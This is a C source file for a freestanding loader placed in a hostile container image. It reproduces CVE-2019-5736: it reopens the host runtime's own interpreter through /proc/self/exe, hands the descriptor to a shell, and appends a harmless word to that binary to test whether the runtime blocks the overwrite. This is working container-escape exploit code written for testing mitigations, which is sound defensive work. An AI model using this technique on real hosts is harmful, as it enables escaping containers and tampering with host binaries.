/* The "dynamic loader" of a hostile root file system, for the Python form of CVE-2019-5736.
 *
 * An entry point `#!/proc/self/exe` makes the kernel run the runtime's own interpreter again, and that interpreter asks
 * for a loader by a path inside the container: this program. It keeps a descriptor of the interpreter's file and goes on
 * as a shell, which is no longer that file, so that writing to it is not refused as "text file busy".
 *
 * The shell appends one word. To a program file that is harmless, and its hash shows it. That alone would prove little: as
 * long as any process runs the same file, writing is ETXTBSY whether the runtime protects it or not. So it also says
 * whether the mount through which the file is reached is read-only.
 *
 * Freestanding: when a program runs as a loader, the auxiliary vector describes another file, which libc cannot bear.
 */
#include <asm/unistd.h>

enum { AT_FDCWD_ = -100, O_PATH_ = 010000000, WRITABLE_FD = 9 };
/* struct statfs of 64-bit machines as words: f_flags is the eleventh; ST_RDONLY includes the mount's own flag */
enum { STATFS_WORDS = 16, F_FLAGS = 10, READ_ONLY = 1 };

#define OVERWRITE "echo overwritten >>/proc/self/fd/9 && echo wrote; echo loader-ran"

static long call(long number, long a, long b, long c, long d)
{
#if defined(__x86_64__)
    long result;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return result;
#elif defined(__aarch64__)
    register long x8 __asm__("x8") = number;
    register long x0 __asm__("x0") = a;
    register long x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c;
    register long x3 __asm__("x3") = d;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
#else
#error "no system call for this architecture"
#endif
}

__attribute__((used)) void _start(void)
{
    /* on the stack: the linker would need relocations for an array of pointers at file scope */
    const char *argv[4];
    const char *envp[1];
    long statfs[STATFS_WORDS] = {0};
    long file = call(__NR_openat, AT_FDCWD_, (long)"/proc/self/exe", O_PATH_, 0);

    argv[0] = "sh";
    argv[1] = "-c";
    call(__NR_fstatfs, file, (long)statfs, 0, 0);
    argv[2] = statfs[F_FLAGS] & READ_ONLY ? "echo sealed; " OVERWRITE : "echo open; " OVERWRITE;
    argv[3] = 0;
    envp[0] = 0;
    call(__NR_dup3, file, WRITABLE_FD, 0, 0);
    call(__NR_execve, (long)"/bin/sh", (long)argv, (long)envp, 0);
    call(__NR_exit_group, 99, 0, 0, 0);
    __builtin_unreachable();
}
